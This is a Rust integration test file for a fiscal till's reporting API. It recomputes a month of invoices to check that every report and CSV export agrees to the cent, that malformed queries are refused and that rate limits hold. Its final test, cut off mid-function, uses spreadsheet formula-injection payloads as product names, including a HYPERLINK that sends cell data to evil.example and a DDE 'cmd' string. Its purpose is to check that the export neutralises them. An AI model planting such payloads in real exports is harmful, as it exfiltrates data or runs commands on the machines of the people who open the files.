//! Reports as an accountant checks them: a shop sells a month's worth of mixed documents (cash,
//! non-cash in euro, discounts on lines and on the whole invoice, several VAT rates and an
//! exemption, a table paid by a summary, cancellations in part and in full, deposits and
//! withdrawals, one receipt still waiting for the CIS), and every report, recomputed here from
//! the documents' own details, agrees to the cent; as CSV too. Bad queries are named, the budget
//! holds, and the totals the reports read agree with the documents (`arka reports verify`).

use std::collections::BTreeMap;

use crate::common::sim::SimServer;
use crate::common::till::*;
use crate::common::*;
use chrono::{Days, Utc};
use chrono_tz::Europe::Tirane;
use rust_decimal::{Decimal, RoundingStrategy};
use serde_json::{Value, json};

/// The spec's limits, with room in the reports budget for a test that reads every report.
const REPORT_LIMITS: &str = "token=6000/m;general=6000/m;fiscal=3000/m,30000/h;reports=6000/m";

fn dec(v: &Value) -> Decimal {
    match v {
        Value::Number(n) => n.to_string().parse().unwrap(),
        Value::String(s) => s.parse().unwrap(),
        Value::Null => Decimal::ZERO,
        other => panic!("not a number: {other}"),
    }
}

fn round2(d: Decimal) -> Decimal {
    d.round_dp_with_strategy(2, RoundingStrategy::MidpointAwayFromZero)
}

fn today() -> chrono::NaiveDate {
    Utc::now().with_timezone(&Tirane).date_naive()
}

/// A document as its details show it, with what reports should count for it.
struct Doc {
    id: i64,
    document_kind: String,
    /// CASH or NONCASH.
    invoice_type: String,
    /// The original's document kind, for a corrective document.
    original_kind: Option<String>,
    currency: String,
    waiting: bool,
    buyer: Option<String>,
    tcr: Option<String>,
    /// Each line: (product code, quantity, VAT class, net in lek, VAT in lek).
    lines: Vec<(String, Decimal, String, Decimal, Decimal)>,
    net_currency: Decimal,
    vat_currency: Decimal,
    /// Each payment in lek as the CIS registered it.
    payments: Vec<(String, Decimal)>,
    gross_all_stored: Decimal,
}

impl Doc {
    fn net(&self) -> Decimal {
        self.lines.iter().map(|l| l.3).sum()
    }
    fn vat(&self) -> Decimal {
        self.lines.iter().map(|l| l.4).sum()
    }
    fn gross(&self) -> Decimal {
        self.net() + self.vat()
    }
    fn is_sale(&self) -> bool {
        matches!(self.document_kind.as_str(), "CASH" | "NONCASH" | "SUMMARY")
    }
    fn is_reversal(&self) -> bool {
        self.document_kind == "CORRECTIVE" && self.original_kind.as_deref() != Some("ORDER")
    }
    fn in_sales(&self) -> bool {
        self.is_sale() || self.is_reversal()
    }
    fn report_kind(&self) -> &str {
        if self.is_reversal() { "CORRECTIVE" } else { &self.document_kind }
    }
}

/// Every document of the shop, read back through the API.
fn documents(till: &Till) -> Vec<Doc> {
    let items = till.server.get("/api/v2/invoice?limit=500", Some(&till.token)).data(200)["items"].clone();
    let kinds: BTreeMap<i64, String> = items
        .as_array()
        .unwrap()
        .iter()
        .map(|i| (i["id"].as_i64().unwrap(), i["document_kind"].as_str().unwrap().to_string()))
        .collect();
    items
        .as_array()
        .unwrap()
        .iter()
        .map(|item| {
            let id = item["id"].as_i64().unwrap();
            let d = till
                .server
                .get(&format!("/api/v2/invoice/{id}/details"), Some(&till.token))
                .data(200)
                .clone();
            let d = if d["invoice"].is_object() { d["invoice"].clone() } else { d };
            let currency = d["amount"]["currency"].as_str().unwrap().to_string();
            let foreign = currency != "ALL";
            let rate = if foreign { dec(&d["amount"]["exchange_rate"]) } else { Decimal::ONE };
            let lek = |x: Decimal| if foreign { round2(x * rate) } else { x };
            let lines: Vec<_> = d["lines"]
                .as_array()
                .unwrap()
                .iter()
                .map(|l| {
                    let class = match l["vat_exempt_type"].as_str() {
                        Some(e) => e.to_string(),
                        None => format!("{}%", dec(&l["vat"]).normalize()),
                    };
                    (
                        l["product_code"].as_str().unwrap().to_string(),
                        dec(&l["quantity"]),
                        class,
                        lek(dec(&l["net"])),
                        lek(dec(&l["vat_amount"])),
                    )
                })
                .collect();
            let net_currency = d["lines"].as_array().unwrap().iter().map(|l| dec(&l["net"])).sum();
            let vat_currency = d["lines"].as_array().unwrap().iter().map(|l| dec(&l["vat_amount"])).sum();
            let gross: Decimal = lines.iter().map(|l| l.3 + l.4).sum();
            let mut payments: Vec<(String, Decimal)> = d["payment_methods"]
                .as_array()
                .unwrap()
                .iter()
                .map(|p| (p["type"].as_str().unwrap().to_string(), lek(dec(&p["amount"]))))
                .collect();
            let paid: Decimal = payments.iter().map(|p| p.1).sum();
            if let Some(first) = payments.first_mut() {
                first.1 += gross - paid;
            }
            let original_kind = d["original_invoice_id"].as_i64().map(|o| kinds[&o].clone());
            Doc {
                id,
                document_kind: d["document_kind"].as_str().unwrap().to_string(),
                invoice_type: d["type"].as_str().unwrap().to_string(),
                original_kind,
                currency,
                waiting: d["fic"].is_null(),
                buyer: d["client"]["name"].as_str().map(str::to_string),
                tcr: d["tcrCode"].as_str().map(str::to_string),
                lines,
                net_currency,
                vat_currency,
                payments,
                gross_all_stored: dec(&d["amount"]["gross_all"]),
            }
        })
        .collect()
}

fn report(till: &Till, path: &str) -> Value {
    till.server.get(path, Some(&till.token)).data(200).clone()
}

fn issue(till: &Till, path: &str, body: &Value) -> Value {
    let reply = till.server.post_json(path, Some(&till.token), body);
    assert!(reply.status == 201 || reply.status == 200, "{path}: {} {}", reply.status, reply.text);
    reply.body["data"]["invoice"].clone()
}

fn line(name: &str, code: &str, quantity: f64, price: f64, total: f64, vat: f64) -> Value {
    json!({"product_name": name, "product_code": code, "unit": "copë", "quantity": quantity, "price": price, "total": total, "vat": vat})
}

/// The month: every kind of document a shop issues, through the API.
fn sell_a_month(till: &Till, sim: &SimServer) {
    let token = Some(till.token.as_str());
    till.server.post_json("/api/v1/cash-register/open-balance", token, &json!({"amount": 1000})).data(201);
    till.server.post_json("/api/v1/cash-register/deposit", token, &json!({"amount": 200.5})).data(201);
    till.server.post_json("/api/v1/cash-register/withdraw", token, &json!({"amount": 50})).data(201);

    // Cash: line discounts (the water), an invoice discount, four VAT rates and an exemption.
    for n in 1..=3 {
        issue(till, "/api/v1/invoice/cash", &coffee_and_water(&format!("c-{n}")));
    }
    let mut discounted = coffee_and_water("c-4");
    discounted["invoice_discount_type"] = json!("amount");
    discounted["invoice_discount_value"] = json!(5);
    issue(till, "/api/v1/invoice/cash", &discounted);
    let mut rates = json!({
        "internalId": "c-5",
        "lines": [
            line("Libër", "L1", 1.0, 1000.0, 1000.0, 0.0),
            line("Hotel", "H1", 2.0, 110.0, 220.0, 10.0),
            line("Bukë", "B1", 3.0, 80.0, 240.0, 6.0),
            line("Ilaç", "I1", 1.0, 500.0, 500.0, 0.0),
        ],
        "payment_method": "CARD",
    });
    rates["lines"][3]["vat_exempt_type"] = json!("TYPE_1");
    issue(till, "/api/v1/invoice/cash", &rates);

    // Non-cash: in euro to one client, in lek to another (later cancelled in full).
    let mut euro = on_account("n-1");
    euro["currency"] = json!("EUR");
    euro["exchange_rate"] = json!(100.52);
    euro["lines"] =
        json!([line("Shërbim", "S1", 1.5, 40.04, 60.06, 20.0), line("Kafe", "K1", 3.0, 1.21, 3.63, 20.0)]);
    issue(till, "/api/v1/invoice/noncash", &euro);
    let mut other = on_account("n-2");
    other["client"]["name"] = json!("Furra Korça");
    other["client"]["id"]["id"] = json!("L91234002B");
    let cancelled_noncash = issue(till, "/api/v1/invoice/noncash", &other);

    // A table: two orders paid by a summary split between banknotes and card; one order left
    // open, one cancelled.
    let order = |id: &str| json!({"internalId": id, "lines": coffee_and_water("x")["lines"].clone()});
    let first = issue(till, "/api/v1/invoice/order", &order("o-1"));
    let second = issue(till, "/api/v1/invoice/order", &order("o-2"));
    issue(till, "/api/v1/invoice/order", &order("o-3"));
    let cancelled_order = issue(till, "/api/v1/invoice/order", &order("o-4"));
    issue(
        till,
        "/api/v2/invoice/summary",
        &json!({
            "internalId": "s-1",
            "order_invoices": [first["iic"], second["iic"]],
            "invoice_discount_type": "percent",
            "invoice_discount_value": 10,
            "payment_methods": [{"type": "BANKNOTE", "amount": 300}, {"type": "CARD", "amount": 213}],
        }),
    );

    // Cancellations: the water of c-1, all of c-2, the lek non-cash invoice, an order.
    let water = json!({"lines": [{"product_name": "Ujë", "product_code": "U1", "quantity": 1}]});
    issue(till, "/api/v1/invoice/cancel-by-internal-id/c-1", &water);
    issue(till, "/api/v1/invoice/cancel-by-internal-id/c-2", &json!({}));
    issue(till, &format!("/api/v1/invoice/cancel/{}", cancelled_noncash["id"]), &json!({}));
    issue(till, &format!("/api/v1/invoice/cancel/{}", cancelled_order["id"]), &json!({}));

    // The day closes with 10 lek missing from what the drawer should hold (its banknotes: the
    // card payments are not in it).
    let today = till.server.get("/api/v1/owner/today", token).data(200).clone();
    let expected = today["tills"][0]["day"]["expected"].as_f64().unwrap();
    till.server
        .post_json("/api/v1/cash-register/close-balance", token, &json!({"counted": expected - 10.0}))
        .data(200);

    // The CIS goes away: the last receipt waits for it (and opens a new day). The till counts
    // a day's sales from the second it opened, so the new day starts in a second of its own:
    // the server's clock moves past the closing's second.
    till.server.advance_clock(std::time::Duration::from_secs(1));
    sim.mode("down");
    let reply = till.server.post_json("/api/v1/invoice/cash", token, &coffee_and_water("c-6"));
    assert_eq!(reply.status, 503, "{}", reply.text);
}

fn sum<'a>(docs: impl IntoIterator<Item = &'a Doc>, f: impl Fn(&Doc) -> Decimal) -> Decimal {
    docs.into_iter().map(f).sum()
}

fn count<'a>(docs: impl IntoIterator<Item = &'a Doc>) -> i64 {
    docs.into_iter().count() as i64
}

#[test]
fn every_report_agrees_to_the_cent_with_the_documents_of_a_month() {
    let sim = SimServer::start();
    let till = open_till_with(&sim, |args| args.limits = REPORT_LIMITS.parse().unwrap());
    sell_a_month(&till, &sim);
    let docs = documents(&till);
    assert_eq!(docs.len(), 17, "every document is listed");
    let (to, from) = (today(), today() - Days::new(29));
    let m = Month { till: &till, period: format!("from={from}&to={to}"), docs, from, to };
    let sales: Vec<&Doc> = m.docs.iter().filter(|d| d.in_sales()).collect();
    let s = sales_summary_agrees(&m, &sales);
    vat_report_and_sales_book_agree(&m, &sales, &s);
    daily_trend_agrees(&m, &s);
    top_clients_and_products_agree(&m, &sales, &s);
    operators_and_tcrs_agree(&m, &sales, &s);
    cash_register_reports_agree(&m);
    reversals_agree(&m);
    dashboard_agrees(&m, &s);
    csv_says_the_same(&m, &s);
    // The totals the reports read agree with the documents.
    let data_dir = till.server.data_dir();
    let _kept = till.server.stop_and_keep();
    let out = arka_ok(&["reports", "verify", "--data-dir", data_dir.to_str().unwrap()]);
    assert!(out.contains("agree"), "{out}");
    // Built again from the documents, they agree still.
    let out = arka_ok(&["reports", "rebuild", "--data-dir", data_dir.to_str().unwrap()]);
    assert!(
        out.contains("the report totals were rebuilt from") && !out.contains("from 0 documents"),
        "{out}"
    );
    let out = arka_ok(&["reports", "verify", "--data-dir", data_dir.to_str().unwrap()]);
    assert!(out.contains("agree"), "{out}");
}

/// A month of documents sold on one till, and the period the reports are asked for.
struct Month<'a> {
    till: &'a Till,
    docs: Vec<Doc>,
    period: String,
    from: chrono::NaiveDate,
    to: chrono::NaiveDate,
}

/// Sales summary: totals, by kind, by payment, the euro invoice in euro and in lek, orders.
fn sales_summary_agrees(m: &Month, sales: &[&Doc]) -> Value {
    let (till, docs, period, from, to) = (m.till, &m.docs, &m.period, m.from, m.to);
    let s = report(till, &format!("/api/v1/reports/sales-summary?{period}"));
    assert_eq!(s["period"], json!({"from": from.to_string(), "to": to.to_string()}));
    assert_eq!(s["totals"]["documents"], count(docs.iter().filter(|d| d.is_sale())));
    assert_eq!(s["totals"]["reversals"], count(docs.iter().filter(|d| d.is_reversal())));
    assert_eq!(s["totals"]["waiting"], 1, "the receipt the CIS has not seen yet counts, flagged");
    assert_eq!(dec(&s["totals"]["net"]), sum(sales.iter().copied(), Doc::net));
    assert_eq!(dec(&s["totals"]["vat"]), sum(sales.iter().copied(), Doc::vat));
    assert_eq!(dec(&s["totals"]["gross"]), sum(sales.iter().copied(), Doc::gross));
    for kind in s["by_kind"].as_array().unwrap() {
        let mine: Vec<&Doc> = sales.iter().copied().filter(|d| d.report_kind() == kind["kind"]).collect();
        assert_eq!(kind["documents"], count(mine.iter().copied()), "{kind}");
        assert_eq!(dec(&kind["gross"]), sum(mine.iter().copied(), Doc::gross), "{kind}");
        assert_eq!(dec(&kind["vat"]), sum(mine.iter().copied(), Doc::vat), "{kind}");
    }
    assert_eq!(
        s["by_kind"].as_array().unwrap().iter().map(|k| k["kind"].as_str().unwrap()).collect::<Vec<_>>(),
        ["CASH", "NONCASH", "EINVOICE", "SUMMARY", "CORRECTIVE"]
    );
    let mut by_method: BTreeMap<String, Decimal> = BTreeMap::new();
    for d in sales {
        for (method, amount) in &d.payments {
            *by_method.entry(method.clone()).or_default() += amount;
        }
    }
    let reported: BTreeMap<String, Decimal> = s["by_payment"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| (p["payment_method"].as_str().unwrap().to_string(), dec(&p["amount"])))
        .collect();
    assert_eq!(reported, by_method);
    assert_eq!(reported.values().copied().sum::<Decimal>(), dec(&s["totals"]["gross"]), "payments add up");
    let euro: Vec<&Doc> = sales.iter().copied().filter(|d| d.currency == "EUR").collect();
    assert_eq!(s["by_currency"].as_array().unwrap().len(), 1);
    let eur = &s["by_currency"][0];
    assert_eq!((eur["currency"].as_str(), eur["documents"].as_i64()), (Some("EUR"), Some(1)));
    assert_eq!(dec(&eur["net"]), sum(euro.iter().copied(), |d| d.net_currency));
    assert_eq!(dec(&eur["vat"]), sum(euro.iter().copied(), |d| d.vat_currency));
    assert_eq!(dec(&eur["gross_all"]), sum(euro.iter().copied(), Doc::gross));
    let orders = docs.iter().filter(|d| d.document_kind == "ORDER");
    assert_eq!(s["orders"]["documents"], count(orders.clone()));
    assert_eq!(dec(&s["orders"]["gross"]), sum(orders, Doc::gross));
    assert_eq!((s["orders"]["open"].as_i64(), s["orders"]["cancelled"].as_i64()), (Some(1), Some(1)));
    s
}

/// VAT: per rate and exemption, sales and reversals apart, as the sales book needs them.
fn vat_report_and_sales_book_agree(m: &Month, sales: &[&Doc], s: &Value) {
    let (till, docs, period) = (m.till, &m.docs, &m.period);
    let v = report(till, &format!("/api/v1/reports/vat?{period}"));
    let mut classes: BTreeMap<String, (Decimal, Decimal, Decimal, Decimal)> = BTreeMap::new();
    for d in sales {
        for (_, _, class, net, vat) in &d.lines {
            let c = classes.entry(class.clone()).or_default();
            if d.is_sale() {
                c.0 += net;
                c.1 += vat;
            } else {
                c.2 += net;
                c.3 += vat;
            }
        }
    }
    let reported: BTreeMap<String, (Decimal, Decimal, Decimal, Decimal)> = v["rates"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            let class = match r["exemption"].as_str() {
                Some(e) => e.to_string(),
                None => format!("{}%", dec(&r["vat_rate"]).normalize()),
            };
            let t = |part: &str, field: &str| dec(&r[part][field]);
            (
                class,
                (
                    t("sales", "taxable_base"),
                    t("sales", "vat"),
                    t("reversals", "taxable_base"),
                    t("reversals", "vat"),
                ),
            )
        })
        .collect();
    assert_eq!(reported, classes);
    assert_eq!(reported.keys().cloned().collect::<Vec<_>>(), ["0%", "10%", "20%", "6%", "TYPE_1"]);
    assert_eq!(dec(&v["totals"]["vat"]), dec(&s["totals"]["vat"]));
    assert_eq!(dec(&v["totals"]["taxable_base"]), dec(&s["totals"]["net"]));
    // The sales book: one row per sale or reversal, each to the cent.
    let book = report(till, &format!("/api/v1/reports/vat?{period}&documents=true&limit=500"));
    let rows = book["items"].as_array().unwrap();
    assert_eq!(rows.len(), sales.len());
    for row in rows {
        let d = docs.iter().find(|d| d.id == row["id"]).unwrap();
        assert_eq!(
            (dec(&row["taxable_base"]), dec(&row["vat"]), dec(&row["gross"])),
            (d.net(), d.vat(), d.gross())
        );
        assert_eq!(row["waiting"], d.waiting);
    }
    let page = report(till, &format!("/api/v1/reports/vat?{period}&documents=true&limit=5&offset=5"));
    assert_eq!(page["items"].as_array().unwrap().len(), 5);
    assert_eq!(page["items"][0]["id"], rows[5]["id"], "pages follow each other");
}

/// The daily trend: a row for every day, the sales on today's.
fn daily_trend_agrees(m: &Month, s: &Value) {
    let (till, period, to) = (m.till, &m.period, m.to);
    let t = report(till, &format!("/api/v1/reports/daily-trend?{period}"));
    let days = t["items"].as_array().unwrap();
    assert_eq!(days.len(), 30);
    assert_eq!(days[29]["date"], to.to_string());
    assert_eq!(dec(&days[29]["gross"]), dec(&s["totals"]["gross"]));
    assert_eq!(days[29]["waiting"], 1);
    assert!(days[..29].iter().all(|d| d["documents"] == 0 && dec(&d["gross"]).is_zero()));
}

/// Top clients and products: by gross, with quantities.
fn top_clients_and_products_agree(m: &Month, sales: &[&Doc], s: &Value) {
    let (till, period) = (m.till, &m.period);
    let c = report(till, &format!("/api/v1/reports/top-clients?{period}"));
    let mut buyers: BTreeMap<String, Decimal> = BTreeMap::new();
    for d in sales.iter().filter(|d| d.buyer.is_some()) {
        *buyers.entry(d.buyer.clone().unwrap()).or_default() += d.gross();
    }
    let listed: BTreeMap<String, Decimal> = c["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| (i["name"].as_str().unwrap().to_string(), dec(&i["gross"])))
        .collect();
    assert_eq!(listed, buyers);
    assert_eq!(c["items"][0]["name"], "Ushqimore Dardania", "the largest buyer first");
    assert_eq!(dec(&c["items"][1]["gross"]), Decimal::ZERO, "a buyer whose invoice was cancelled nets to 0");
    assert_eq!(dec(&c["anonymous"]["gross"]) + dec(&c["totals"]["gross"]), dec(&s["totals"]["gross"]));
    let p = report(till, &format!("/api/v1/reports/top-products?{period}&limit=500"));
    let mut products: BTreeMap<String, (Decimal, Decimal)> = BTreeMap::new();
    for d in sales {
        for (code, quantity, _, net, vat) in &d.lines {
            let e = products.entry(code.clone()).or_default();
            e.0 += quantity;
            e.1 += net + vat;
        }
    }
    let listed: BTreeMap<String, (Decimal, Decimal)> = p["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| (i["product_code"].as_str().unwrap().to_string(), (dec(&i["quantity"]), dec(&i["gross"]))))
        .collect();
    assert_eq!(listed, products);
    let grosses: Vec<Decimal> = p["items"].as_array().unwrap().iter().map(|i| dec(&i["gross"])).collect();
    assert!(grosses.windows(2).all(|w| w[0] >= w[1]), "by gross, largest first: {grosses:?}");
    let top2 = report(till, &format!("/api/v1/reports/top-products?{period}&limit=2"));
    assert_eq!(top2["items"].as_array().unwrap(), &p["items"].as_array().unwrap()[..2]);
}

/// By operator (the spec's shape) and by TCR.
fn operators_and_tcrs_agree(m: &Month, sales: &[&Doc], s: &Value) {
    let (till, period) = (m.till, &m.period);
    let o = report(till, &format!("/api/v1/reports/by-operator?{period}"));
    assert_eq!(object_keys(&o), ["items", "period", "waiting"]);
    assert_eq!(o["items"].as_array().unwrap().len(), 1);
    let operator = &o["items"][0];
    assert_eq!(object_keys(operator), ["gross", "id_user", "invoices", "name", "operator_code"]);
    assert_eq!(operator["id_user"], till.user_id);
    assert_eq!(operator["operator_code"], "op123op123");
    assert_eq!(operator["invoices"], s["totals"]["documents"]);
    assert_eq!(dec(&operator["gross"]), dec(&s["totals"]["gross"]));
    let b = report(till, &format!("/api/v1/reports/by-tcr?{period}"));
    for item in b["items"].as_array().unwrap() {
        let mine = sales.iter().copied().filter(|d| d.tcr.as_deref() == item["tcr_code"].as_str());
        assert_eq!(dec(&item["gross"]), sum(mine, Doc::gross), "{item}");
    }
    assert_eq!(b["items"].as_array().unwrap().len(), 2, "the till, and the non-cash documents of no TCR");
}

/// The cash register: movements by type, and the till's cash documents as its balance counts them.
fn cash_register_reports_agree(m: &Month) {
    let (till, docs, period) = (m.till, &m.docs, &m.period);
    let till_sales = sum(
        docs.iter().filter(|d| {
            d.invoice_type == "CASH"
                && d.document_kind != "ORDER"
                && d.original_kind.as_deref() != Some("ORDER")
        }),
        |d| d.gross_all_stored,
    );
    let r = report(till, &format!("/api/v1/reports/cash-register?{period}"));
    let register = &r["items"][0];
    assert_eq!(register["tcr_code"], till.tcr_code);
    assert_eq!(dec(&register["initial"]), Decimal::from(1000));
    assert_eq!(dec(&register["deposits"]), "200.5".parse::<Decimal>().unwrap());
    assert_eq!(dec(&register["withdrawals"]), Decimal::from(50));
    assert_eq!(dec(&register["cash_sales"]), till_sales);
    let now = dec(&till.server.get("/api/v1/cash-register/balance", Some(&till.token)).data(200)["balance"]);
    assert_eq!(dec(&register["change"]), now, "the drawer started the month empty");
    // The X/Z report: the closed day (10 missing) and the day the waiting receipt opened.
    let z = report(till, &format!("/api/v1/reports/cash-register/closing?{period}"));
    let closed = &z["items"][0];
    assert_eq!((closed["status"].as_str(), z["items"][1]["status"].as_str()), (Some("closed"), Some("open")));
    assert_eq!(dec(&closed["difference"]), Decimal::from(-10));
    assert_eq!(dec(&closed["carried_over"]), Decimal::ZERO);
    assert_eq!(dec(&closed["opening"]), Decimal::from(1000));
    assert_eq!(dec(&closed["cash_sales"]) + dec(&z["items"][1]["cash_sales"]), till_sales);
    assert_eq!(dec(&closed["expected"]), dec(&closed["withdrawn"]) + Decimal::from(10));
}

/// Reversals (the spec's shape): every cancellation, orders' included.
fn reversals_agree(m: &Month) {
    let (till, docs, period) = (m.till, &m.docs, &m.period);
    let rev = report(till, &format!("/api/v1/reports/reversals?{period}"));
    assert_eq!(object_keys(&rev), ["items", "period", "totals", "waiting"]);
    let correctives: Vec<&Doc> = docs.iter().filter(|d| d.document_kind == "CORRECTIVE").collect();
    assert_eq!(rev["totals"]["count"], count(correctives.iter().copied()));
    assert_eq!(dec(&rev["totals"]["gross"]), sum(correctives.iter().copied(), Doc::gross));
    for item in rev["items"].as_array().unwrap() {
        assert_eq!(
            object_keys(item),
            ["gross", "id", "number", "operator", "original_invoice_id", "reversed_at", "type"]
        );
        let d = correctives.iter().find(|d| d.id == item["id"]).unwrap();
        assert_eq!(dec(&item["gross"]), d.gross());
    }
}

/// The dashboard: today against yesterday, the queue, the certificate, the open day.
fn dashboard_agrees(m: &Month, s: &Value) {
    let (till, to) = (m.till, m.to);
    let dash = report(till, "/api/v1/dashboard/summary");
    assert_eq!(dec(&dash["today"]["gross"]), dec(&s["totals"]["gross"]));
    assert_eq!(dash["today"]["change_percent"], Value::Null, "nothing was sold yesterday");
    assert_eq!(dash["queue"]["waiting"], 2, "the receipt, and the day's opening that goes ahead of it");
    assert_eq!(dash["certificate"]["expired"], false);
    assert_eq!(dash["open_days"][0]["tcr_code"], till.tcr_code);
    let yesterday = (to - Days::new(1)).to_string();
    let before = report(till, &format!("/api/v1/dashboard/summary?date={yesterday}"));
    assert_eq!(before["today"]["documents"], 0);
}

/// CSV, by the Accept header or by format=csv: the same figures, a file to save.
fn csv_says_the_same(m: &Month, s: &Value) {
    let (till, period, from, to) = (m.till, &m.period, m.from, m.to);
    let bearer = format!("Bearer {}", till.token);
    let reply = till.server.request(
        "GET",
        &format!("/api/v1/reports/sales-summary?{period}"),
        &[("Authorization", &bearer), ("Accept", "text/csv")],
        None,
    );
    assert_eq!(reply.status, 200);
    assert_eq!(reply.header("content-type"), Some("text/csv; charset=utf-8"));
    assert_eq!(
        reply.header("content-disposition"),
        Some(format!("attachment; filename=\"arka-sales-summary-{from}-{to}.csv\"").as_str())
    );
    let csv = reply.text.trim_start_matches('\u{feff}');
    let total = csv.lines().nth(1).unwrap().split(',').collect::<Vec<_>>();
    assert_eq!(total[0..2], ["total", "ALL"]);
    assert_eq!(total[6].parse::<Decimal>().unwrap(), dec(&s["totals"]["gross"]));
    for path in [
        "vat",
        "daily-trend",
        "top-clients",
        "top-products",
        "by-operator",
        "by-tcr",
        "cash-register",
        "cash-register/closing",
        "reversals",
    ] {
        let reply =
            till.server.get(&format!("/api/v1/reports/{path}?{period}&format=csv"), Some(&till.token));
        assert_eq!(reply.status, 200, "{path}");
        assert!(reply.header("content-type").unwrap().starts_with("text/csv"), "{path}");
        assert!(reply.text.lines().count() >= 2, "{path}: a header and rows: {}", reply.text);
    }
    let trend =
        till.server.get(&format!("/api/v1/reports/daily-trend?{period}&format=csv"), Some(&till.token));
    assert_eq!(trend.text.lines().count(), 31, "a header and a line per day");
}

/// Every route and the queries it must refuse, naming the field.
const ROUTES: [&str; 11] = [
    "/api/v1/reports/sales-summary",
    "/api/v1/reports/vat",
    "/api/v1/reports/daily-trend",
    "/api/v1/reports/top-clients",
    "/api/v1/reports/top-products",
    "/api/v1/reports/by-operator",
    "/api/v1/reports/by-tcr",
    "/api/v1/reports/cash-register",
    "/api/v1/reports/cash-register/closing",
    "/api/v1/reports/reversals",
    "/api/v1/dashboard/summary",
];

#[test]
fn a_bad_query_is_refused_naming_its_field_and_the_shop_keeps_selling() {
    let sim = SimServer::start();
    let till = open_till_with(&sim, |args| args.limits = REPORT_LIMITS.parse().unwrap());
    let theirs = on_board(&till.server, "K12345678L", 0);
    issue(&till, "/api/v1/invoice/cash", &coffee_and_water("before"));
    let ok = "from=2026-03-01&to=2026-03-31";
    let refused = [
        ("to=2026-03-31", "from"),
        ("from=2026-03-01", "to"),
        ("from=2026-3-1&to=2026-03-31", "from"),
        ("from=2026-03-01&to=2026-02-30", "to"),
        ("from=2026-04-01&to=2026-03-31", "from"),
        ("from=%00&to=2026-03-31", "from"),
        ("from=1e30&to=2026-03-31", "from"),
    ];
    for route in &ROUTES[..10] {
        for (query, field) in refused {
            till.server.get(&format!("{route}?{query}"), Some(&till.token)).assert_invalid(field);
        }
        let filters = [
            ("limit=1e30", "limit"),
            ("limit=9223372036854775808", "limit"),
            ("limit=0", "limit"),
            ("limit=501", "limit"),
            ("offset=-1", "offset"),
            ("tcr=%00", "tcr"),
            ("operator=a%00b", "operator"),
            ("branch=99999999999999999999", "branch"),
            ("format=xml", "format"),
        ];
        for (query, field) in filters {
            till.server.get(&format!("{route}?{ok}&{query}"), Some(&till.token)).assert_invalid(field);
        }
        // Another company's branch, TCR and operator are not this company's.
        let foreign = [
            (format!("branch={}", theirs.branch_id), "branch"),
            (format!("tcr={}", theirs.tcr_code), "tcr"),
            ("operator=nobody".to_string(), "operator"),
        ];
        for (query, field) in foreign {
            till.server.get(&format!("{route}?{ok}&{query}"), Some(&till.token)).assert_invalid(field);
        }
        till.server.get(&format!("{route}?{ok}"), None).assert_unauthenticated();
        let own = format!("{route}?{ok}&branch={}&tcr={}&operator=op123op123", till.branch_id, till.tcr_code);
        till.server.get(&own, Some(&till.token)).data(200);
    }
    let dashboard = "/api/v1/dashboard/summary";
    for bad in ["date=2026-02-30", "date=%00", "date=1e30"] {
        till.server.get(&format!("{dashboard}?{bad}"), Some(&till.token)).assert_invalid("date");
    }
    till.server
        .get("/api/v1/reports/vat?from=2026-03-01&to=2026-03-31&documents=maybe", Some(&till.token))
        .assert_invalid("documents");
    till.server
        .get("/api/v1/reports/daily-trend?from=2020-01-01&to=2026-03-31", Some(&till.token))
        .assert_invalid("to");
    // A report sees only its company's documents.
    let mine = report(&till, &format!("/api/v1/reports/sales-summary?from={}&to={}", today(), today()));
    let other = till
        .server
        .get(&format!("/api/v1/reports/sales-summary?from={}&to={}", today(), today()), Some(&theirs.token))
        .data(200)
        .clone();
    assert_eq!(mine["totals"]["documents"], 1);
    assert_eq!(other["totals"]["documents"], 0);
    issue(&till, "/api/v1/invoice/cash", &coffee_and_water("after"));
    let served = till.server.get("/api/openapi.yaml", None).text;
    for route in ROUTES {
        assert!(served.contains(&format!("  {route}:")), "OpenAPI documents {route}");
    }
}

#[test]
fn the_reports_budget_is_thirty_a_minute() {
    let sim = SimServer::start();
    let till = open_till(&sim);
    let path = format!("/api/v1/reports/by-tcr?from={}&to={}", today(), today());
    for n in 0..30 {
        let route = ROUTES[n % ROUTES.len()];
        let reply = till.server.get(&format!("{route}?from={}&to={}", today(), today()), Some(&till.token));
        assert_eq!(reply.status, 200, "call {n} of {route}: {}", reply.text);
    }
    let reply = till.server.get(&path, Some(&till.token));
    reply.assert_throttled();
    assert!(reply.header("retry-after").is_some());
    // Other groups are not touched by it.
    issue(&till, "/api/v1/invoice/cash", &coffee_and_water("still-selling"));
}

/// The cells of a CSV answer (after its byte-order mark), as a spreadsheet reads the file.
fn csv_cells(text: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    reader.records().map(|r| r.unwrap().iter().map(str::to_string).collect()).collect()
}

#[test]
fn a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text_and_amounts_stay_numbers() {
    let sim = SimServer::start();
    let till = open_till_with(&sim, |args| args.limits = REPORT_LIMITS.parse().unwrap());
    let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
    let names = [formula, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "-37.50", "'quoted"];
    let lines: Vec<Value> = names
        .iter()
        .enumerate()
        .map(|(i, name)| line(name, &format!("@C{i}"), 1.0, 10.0, 10.0, 20.0))
        .collect();
    let body = json!({"internalId": "formulas", "lines": lines, "payment_method": "BANKNOTE"});
    issue(&till, "/api/v1/invoice/cash", &body);
    issue(&till, "/api/v1/invoice/cash", &coffee_and_water("plain"));
    issue(&till, "/api/v1/invoice/cancel-by-internal-id/plain", &json!({}));
    let day = today();
    let period = format!("from={day}&to={day}");

    let top =
        till.server.get(&format!("/api/v1/reports/top-products?{period}&format=csv"), Some(&till.token));
    let rows = csv_cells(&top.text);
    let columns = &rows[0];
    let (code, name) = (
        columns.iter().position(|c| c == "product_code").unwrap(),
        columns.iter().position(|c| c == "product_name").unwrap(),
    );
    let mut written: Vec<(String, String)> = rows[1..]
        .iter()
        .filter(|r| r[code].starts_with("'@C"))
        .map(|r| (r[code].clone(), r[name].clone()))
        .collect();
    written.sort();
    let mut expected: Vec<(String, String)> = names
        .iter()
        .enumerate()
        .map(|(i, name)| {
            // A name that is a number is a number to a spreadsheet too: it runs nothing.
